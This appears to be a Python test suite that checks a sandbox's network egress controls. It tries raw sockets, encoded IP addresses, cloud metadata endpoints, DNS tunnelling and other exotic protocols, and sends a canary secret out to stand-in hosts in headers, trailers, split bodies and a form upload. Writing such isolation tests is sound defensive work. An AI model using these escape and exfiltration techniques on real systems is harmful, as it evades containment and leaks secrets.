"""Attempts over the network: every way to a destination, a name or a protocol that a sandbox has."""

import base64
import os
import socket
import ssl
import struct
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import DataReceived, ResponseReceived, StreamEnded, StreamReset
from inside import SECRET, WAIT, attempt, curl, datagram, dial, exchange, get, libc, question, reads, run, unverified

# --- routing


@attempt
def a_raw_socket() -> object:
    return exchange("203.0.113.1", 80, get("203.0.113.1"))


@attempt
def curl_without_a_proxy() -> object:
    return curl("https://no-proxy.example/")


@attempt
def tls_without_sni() -> object:
    with unverified().wrap_socket(dial("203.0.113.2", 443)) as sock:
        sock.sendall(get("203.0.113.2"))
        return reads(sock)


@attempt
def tls_to_an_address_with_the_sni_of_a_stubbed_host() -> object:
    with unverified().wrap_socket(dial("203.0.113.3", 443), server_hostname="api.stripe.com") as sock:
        sock.sendall(get("api.stripe.com"))
        return reads(sock)


for _name, _url in {
    "a_decimal_address": "http://3405803780/",
    "a_hexadecimal_address": "http://0xcb007105/",
    "an_octal_address": "http://0313.0.0161.06/",
    "a_mapped_address": "http://[::ffff:203.0.113.7]/",
    "a_nat64_address": "http://[64:ff9b::cb00:7108]/",
    "a_6to4_address": "http://[2002:cb00:7109::1]/",
    "a_global_ipv6_address": "http://[2606:4700::1111]/",
    "a_link_local_address_with_a_zone": "http://[fe80::1%25lo]/",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "metadata_over_ipv6": "http://[fd00:ec2::254]/",
    "a_private_address": "http://192.168.0.1/",
    "a_shared_address": "http://100.64.0.1/",
    "the_gateway": "http://10.99.0.2/",
    "the_hosts_own_address": "http://10.99.0.1/",
    "doh_by_name": "https://dns.google/dns-query?dns=AAAB",
    "doh_by_address": "https://1.1.1.1/dns-query?dns=AAAB",
}.items():
    attempt(lambda url=_url: curl(url), _name)

for _port in (22, 25, 465, 587, 853, 3306, 5432, 6379, 8443, 47123):
    attempt(lambda port=_port: exchange("203.0.113.20", port, b"\0\r\n"), f"port_{_port}")

for _name, _place in {
    "quic": ("203.0.113.30", 443),
    "udp": ("203.0.113.31", 5353),
    "udp6": ("2606:4700::31", 123),
}.items():
    attempt(lambda place=_place: datagram(*place), _name)
attempt(lambda: datagram("203.0.113.32", 853), "dns_over_quic")


@attempt
def ping() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(WAIT)
        sock.connect(("203.0.113.33", 0))
        sock.send(bytes([8, 0, 0, 0, 0, 0, 0, 0]))
        return sock.recv(10).hex()


for _name, _kind in {
    "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132),
    "dccp": (socket.AF_INET, 6, 33),
    "udp_lite": (socket.AF_INET, socket.SOCK_DGRAM, 136),
    "smc": (socket.AF_INET, socket.SOCK_STREAM, 256),
    "multipath_tcp": (socket.AF_INET, socket.SOCK_STREAM, 262),
}.items():

    def other(kind: tuple[int, int, int] = _kind, port: int = 34) -> object:
        with socket.socket(*kind) as sock:
            sock.settimeout(WAIT)
            sock.connect(("203.0.113.34", port))
            sock.send(b"\0\r\n")
            return reads(sock)

    attempt(other, _name)

for _name, _kind in {
    "packet_socket": (17, socket.SOCK_RAW, 0x0003),
    "raw_socket": (socket.AF_INET, socket.SOCK_RAW, 255),
    "raw_ipv6_socket": (socket.AF_INET6, socket.SOCK_RAW, 58),
    "vsock": (40, socket.SOCK_STREAM, 0),
    "xdp": (44, socket.SOCK_RAW, 0),
    "rds": (21, socket.SOCK_SEQPACKET, 0),
    "tipc": (30, socket.SOCK_STREAM, 0),
    "rxrpc": (33, socket.SOCK_DGRAM, 2),
    "smc_family": (43, socket.SOCK_STREAM, 0),
    "qrtr": (42, socket.SOCK_DGRAM, 0),
}.items():
    attempt(lambda kind=_kind: socket.socket(*kind).close() or "made", _name)


@attempt
def tcp_fast_open() -> object:
    with socket.socket() as sock:
        try:
            sock.sendto(get("203.0.113.35"), 0x20000000, ("203.0.113.35", 80))
        except BlockingIOError:  # no cookie yet: the data goes with the second attempt
            sock.close()
            return exchange("203.0.113.35", 80, get("203.0.113.35"))
        return reads(sock)


@attempt
def the_listener_itself() -> object:
    """Its port stands in /proc/net: the only socket that listens at first."""
    ports = set()
    for line in Path("/proc/net/tcp6").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            ports.add(int(fields[1].rpartition(":")[2], 16))
    tried = {}
    for port in ports:
        for address in ("127.0.0.1", "::1", "192.0.2.1", "2001:db8::1"):
            try:
                tried[f"{address}"] = exchange(address, port, get("api.stripe.com"))
            except OSError as error:
                tried[f"{address}"] = type(error).__name__
        try:
            with socket.create_server(("127.0.0.1", port)):
                tried["taken over"] = "yes"
        except OSError:
            pass
    return tried


@attempt
def a_namespace_of_its_own() -> object:
    """With all capabilities over it: it has no device but its own `lo`."""
    if (pid := os.fork()) == 0:
        try:
            assert libc.unshare(0x10000000 | 0x40000000) == 0
            dial("203.0.113.36", 80)
        except BaseException:  # noqa: BLE001 (a copy of this process must not go on)
            os._exit(0)
        os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


# --- names


def asked(name: str, kind: int, server: str = "192.0.2.53") -> str:
    answer = bytes.fromhex(datagram(server, 53, question(name, kind)))
    flags, _, answers = struct.unpack_from("!3H", answer, 2)
    return f"code {flags & 15}, {answers} answers"


for _name, _kind in {"a": 1, "txt": 16, "null": 10, "svcb": 64, "https": 65, "any": 255, "axfr": 252}.items():
    attempt(lambda name=_name, kind=_kind: asked(f"{SECRET}.{name}.tunnel.example", kind), f"dns_{_name}")
attempt(lambda: asked(f"{SECRET}.direct.example", 16, "8.8.8.8"), "a_direct_resolver")
attempt(lambda: asked(f"{SECRET}.stub.example", 16, "127.0.0.53"), "the_stub_resolver")
attempt(lambda: asked("a" * 63 + "." + "b" * 63 + ".long.example", 16), "long_labels")


@attempt
def dns_over_tcp() -> object:
    query = question(f"{SECRET}.overtcp.example", 16)
    with dial("9.9.9.9", 53) as sock:
        sock.sendall(struct.pack("!H", len(query)) + query)
        return reads(sock, 12) != ""


@attempt
def dns_over_tls() -> object:
    with unverified().wrap_socket(dial("9.9.9.9", 853), server_hostname="dns.quad9.net") as sock:
        return sock.version()


@attempt
def the_c_librarys_resolver() -> object:
    return sorted({entry[4][0] for entry in socket.getaddrinfo("getaddrinfo.example", 80)})


@attempt
def what_is_no_dns() -> object:
    return datagram("8.8.8.8", 53, b"\x00\x01" + SECRET.encode())


# --- protocols


@attempt
def websocket() -> object:
    upgrade = "Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
    return exchange("203.0.113.40", 80, get("203.0.113.40", upgrade).replace(b"close", b"Upgrade"))


@attempt
def h2c_upgrade() -> object:
    upgrade = "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n"
    return exchange("203.0.113.41", 80, get("203.0.113.41", upgrade))


@attempt
def h2c_by_prior_knowledge() -> object:
    return exchange("203.0.113.42", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))


@attempt
def grpc() -> object:
    """HTTP/2 by hand: a request with `te: trailers`, a message, and trailers of its own."""
    with unverified("h2").wrap_socket(dial("grpc.example", 443), server_hostname="grpc.example") as sock:
        connection = H2Connection(H2Configuration())
        connection.initiate_connection()
        pseudo = [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", "grpc.example"),
            (":path", "/pkg.Service/Call"),
        ]
        connection.send_headers(1, [*pseudo, ("content-type", "application/grpc"), ("te", "trailers")])
        connection.send_data(1, b"\0\0\0\0\x05hello")
        connection.send_headers(1, [("grpc-trailer", SECRET)], end_stream=True)
        sock.sendall(connection.data_to_send())
        while data := sock.recv(65536):
            for event in connection.receive_data(data):
                if isinstance(event, ResponseReceived):
                    return dict(event.headers)[b":status"].decode()
                if isinstance(event, (DataReceived, StreamEnded, StreamReset)):
                    return type(event).__name__
            sock.sendall(connection.data_to_send())
    return "closed"


@attempt
def server_sent_events() -> object:
    return curl("-H", "Accept: text/event-stream", "http://events.example/stream")


@attempt
def expect_100_continue() -> object:
    head = b"POST / HTTP/1.1\r\nHost: expect.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n"
    with dial("expect.example", 80) as sock:
        sock.sendall(head)
        first = sock.recv(100)
        sock.sendall(b"hello")
        return (first + sock.recv(300)).decode()


@attempt
def request_trailers() -> object:
    body = b"5\r\nhello\r\n0\r\nX-Late: " + SECRET.encode() + b"\r\n\r\n"
    head = b"POST / HTTP/1.1\r\nHost: trailers.example\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    return exchange("trailers.example", 80, head + body)


@attempt
def a_pinned_certificate() -> object:
    """As a client with a pin: the handshake, a look at the certificate, and away without a request."""
    with unverified().wrap_socket(dial("pinned.example", 443), server_hostname="pinned.example") as sock:
        return len(sock.getpeercert(binary_form=True) or b"") > 0


@attempt
def a_client_that_trusts_nobody() -> object:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with context.wrap_socket(dial("distrust.example", 443), server_hostname="distrust.example") as sock:
        return sock.version()


@attempt
def an_unknown_alpn() -> object:
    with unverified("acme-tls/1").wrap_socket(dial("alpn.example", 443), server_hostname="alpn.example") as sock:
        return sock.version()


@attempt
def nested_connect() -> object:
    with dial("proxy.example", 80) as sock:
        sock.sendall(b"CONNECT inner.example:443 HTTP/1.1\r\nHost: inner.example:443\r\n\r\n")
        return reads(sock)


@attempt
def a_tunnel_within_tls() -> object:
    with unverified().wrap_socket(dial("tunnel.example", 443), server_hostname="tunnel.example") as sock:
        sock.sendall(b"SSH-2.0-" + SECRET.encode() + b"\r\n")
        return reads(sock)


@attempt
def a_socks_proxy_somewhere() -> object:
    return exchange("203.0.113.43", 1080, b"\x05\x01\x00")


@attempt
def connected_and_said_nothing() -> object:
    dial("203.0.113.44", 7777).close()
    return "closed"


@attempt
def smtp_starttls_with_commands_behind_it() -> object:
    with dial("smtp.example", 587) as sock:
        file = sock.makefile("rwb")
        file.readline()
        file.write(b"EHLO x\r\n")
        file.flush()
        while not file.readline().startswith(b"250 "):
            pass
        file.write(b"STARTTLS\r\nMAIL FROM:<evil@example.com>\r\n")
        file.flush()
        return file.readline().decode()


@attempt
def canary_in_many_places() -> object:
    code = [curl("-H", f"X-Data: {SECRET}", f"https://{SECRET}.example/{SECRET}?q={SECRET}")]
    code += [curl("-d", part, "http://split.example/") for part in (SECRET[:6], SECRET[6:])]
    code += [
        curl("-F", f"file=@/etc/hostname;filename={base64.b64encode(SECRET.encode()).decode()}", "http://form.example/")
    ]
    return code


run()
